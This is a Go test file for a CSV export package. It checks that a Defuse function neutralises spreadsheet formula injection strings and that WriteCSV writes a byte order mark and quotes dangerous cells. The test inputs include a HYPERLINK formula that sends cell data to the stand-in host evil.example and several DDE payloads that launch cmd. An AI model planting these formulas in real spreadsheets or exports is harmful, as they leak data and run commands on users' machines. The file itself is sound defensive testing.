package sheet

import (
	"encoding/csv"
	"strings"
	"testing"
)

// TestDefuse: the strings spreadsheet formula injection lists use come out
// as text; numbers and ordinary text are left alone.
func TestDefuse(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"Click")`: `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
		`=cmd|' /C calc'!A0`:          `'=cmd|' /C calc'!A0`,
		`+SUM(1+1)*cmd|' /C calc'!A0`: `'+SUM(1+1)*cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`:      `'-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`: `'@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1":                      "'\t=1+1",
		"\r=1+1":                      "'\r=1+1",
		`=1+1`:                        `'=1+1`,
		`-`:                           `'-`,
		`-3`:                          `-3`,
		`+1.5`:                        `+1.5`,
		`5.15`:                        `5.15`,
		`Tilgangsstyring`:             `Tilgangsstyring`,
		``:                            ``,
		`a=b`:                         `a=b`,
	} {
		if got := Defuse(in); got != want {
			t.Errorf("Defuse(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestWriteCSV: a written table reads back with every dangerous cell
// quoted and the rest as written.
func TestWriteCSV(t *testing.T) {
	data := WriteCSV([]string{"id", "text", "n"}, [][]string{{"5.15", "=2+5", "-4"}, {"A", "@risk, «x»", "7"}})
	if !strings.HasPrefix(string(data), "\uFEFF") {
		t.Fatal("no byte order mark")
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(data), "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"id", "text", "n"}, {"5.15", "'=2+5", "-4"}, {"A", "'@risk, «x»", "7"}}
	for i := range want {
		for j := range want[i] {
			if rows[i][j] != want[i][j] {
				t.Errorf("row %d col %d = %q, want %q", i, j, rows[i][j], want[i][j])
			}
		}
	}
}
